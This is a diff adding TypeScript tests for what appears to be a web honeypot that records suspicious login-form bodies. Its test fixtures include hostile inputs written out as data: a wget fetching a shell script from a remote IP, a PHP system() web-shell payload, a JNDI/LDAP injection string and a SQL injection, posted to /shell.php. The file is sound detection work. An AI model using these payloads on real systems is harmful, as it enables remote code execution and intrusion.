@@ -98,6 +98,37 @@ describe.each(['nginx', 'apache'] as const)('bodies to %s', (product) => {
     expect(client.events.filter((event) => event.kind === 'file.captured').map((event) => event.facts.how)).toEqual(['upload', 'body'])
   })
 
+  const multipart = (...fields: [string, string][]) =>
+    `${fields.map(([name, value]) => `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`).join('')}--b--\r\n`
+
+  it.each([
+    ['urlencoded', FORM, 'log=admin&pwd=x&wp-submit=Log+In&redirect_to=http%3A%2F%2Fh%2Fwp-admin%2F&testcookie=1'],
+    ['tokens', FORM, '_token=0af3&user%5Blogin%5D=a%40b.example&user%5Bpassword%5D=p&remember=on'],
+    ['a repeated password', FORM, 'username=a&pass1=p&pass2=p'],
+    ['json', 'application/json', '{"username":"a","password":"p","remember":true}'],
+    ['multipart', 'multipart/form-data; boundary=b', multipart(['user', 'a'], ['pass', 'p'])],
+  ])('captures nothing of a plain login form: %s', async (_, type, body) => {
+    const { client } = await said(await open(), post('/login', type, body))
+    expect(client.events.filter((event) => event.kind === 'credential.tried')).toHaveLength(1)
+    expect(client.captures).toEqual([])
+  })
+
+  it.each([
+    ['a command beside a password', FORM, 'pass=x&cmd=wget+http%3A%2F%2F198.51.100.1%2Fa.sh'],
+    ['code in a token', FORM, 'username=a&password=p&_token=%3C%3Fphp+system%28%24_GET%5B0%5D%29%3B'],
+    ['code in a name', FORM, 'username=a&password=p&%24%7Bjndi%3Aldap%3A%2F%2Fx%7D%5Buser%5D=a'],
+    ['another principal', FORM, 'username=a&password=p&id=1+or+1%3D1'],
+    ['another password', FORM, 'username=a&password=p&new_password=q'],
+    ['a password too long to tell', FORM, `username=a&password=${'p'.repeat(2000)}`],
+    ['many fields', FORM, `username=a&password=p&${'token=1&'.repeat(300)}cmd=id`],
+    ['nested json', 'application/json', '{"username":"a","password":"p","data":{"cmd":"id"}}'],
+    ['multipart', 'multipart/form-data; boundary=b', multipart(['user', 'a'], ['pass', 'p'], ['cmd', 'id'])],
+  ])('captures the body of a form that says more than a login: %s', async (_, type, body) => {
+    const { client } = await said(await open(), post('/shell.php', type, body))
+    expect(client.events.filter((event) => event.kind === 'credential.tried')).toHaveLength(1)
+    expect(client.captures.map(({ name, bytes }) => [name, bytes.toString('latin1')])).toEqual([['body', body]])
+  })
+
   it('streams a long body to the capture', async () => {
     const decky = await open()
     const client = decky.connect()
